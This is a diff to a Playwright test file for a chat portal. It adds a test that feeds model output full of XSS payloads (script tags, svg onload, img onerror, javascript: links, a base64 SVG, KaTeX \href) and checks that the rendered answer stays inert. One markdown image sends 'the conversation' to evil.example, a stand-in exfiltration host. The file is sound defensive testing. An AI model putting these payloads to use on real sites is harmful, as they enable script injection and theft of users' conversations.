@@ -1,6 +1,6 @@
 import { AxeBuilder } from '@axe-core/playwright';
 import { expect, test, type Page } from '@playwright/test';
-import { answers, ask, signInAsNew, url } from './support/people.js';
+import { answers, ask, signInAsNew, url, whenWritten } from './support/people.js';
 
 /** Everything the browser complains about, and every request that leaves the portal. */
 function watch(page: Page): { problems: string[] } {
@@ -26,7 +26,32 @@ test('X1 X3: what a model writes runs nothing, loads nothing and leads nowhere',
   expect(problems).toEqual([]);
 });
 
-const PAGES = ['/chat', '/history', '/settings', '/developer/keys', '/admin/telemetry', '/admin/logs', '/admin/users', '/admin/models', '/admin/sql', '/admin/settings'];
+test('model output with script, javascript: link, remote image, SVG does nothing', async ({ page }) => {
+  await signInAsNew(page);
+  const { problems } = watch(page);
+  await page.evaluate(() => Object.assign(window, { alert: () => Object.assign(window, { hit: true }) }));
+  const attack = [
+    '<script>alert(1)</script><svg onload=alert(1)><circle r=1></svg><img src=x onerror=alert(1)>',
+    '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)',
+    '![secret](https://evil.example/?q=the+conversation) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+    '$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x.png} \\htmlData{a=b}{y}$$',
+    '```html\n<script>alert(1)</script>\n```',
+    'A note.[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
+  ].join('\n\n');
+  await ask(page, `scenario:echo ${attack}`);
+  await whenWritten(page);
+  const answer = answers(page).last();
+  await expect(answer.locator('.katex').first()).toBeAttached();
+  await expect(answer.locator('pre [class^="tok-"]').first()).toBeAttached();
+  for (const link of await answer.locator('.prose a').all()) await link.click();
+  expect(await page.evaluate(() => (window as { hit?: boolean }).hit)).toBeUndefined();
+  const parts = '.prose :is(script, iframe, object, embed, form, style, img, svg, [onload], [onerror], [onclick]):not(:is(button, .katex) *)';
+  expect(await answer.locator(parts).evaluateAll((found) => found.map((element) => element.outerHTML))).toEqual([]);
+  expect(await answer.locator('.prose a').evaluateAll((links) => links.map((link) => link.getAttribute('href')).filter((href) => !href?.startsWith('#')))).toEqual([]);
+  expect(problems).toEqual([]);
+});
+
+const PAGES = ['/chat', '/history', '/settings', '/developer/keys', '/admin/telemetry', '/admin/logs', '/admin/users', '/admin/models', '/admin/cache', '/admin/sql', '/admin/settings'];
 
 for (const theme of ['light', 'dark'] as const) {
   test(`no page has an accessibility fault, a console error or a sideways scroll (${theme})`, async ({ page }) => {
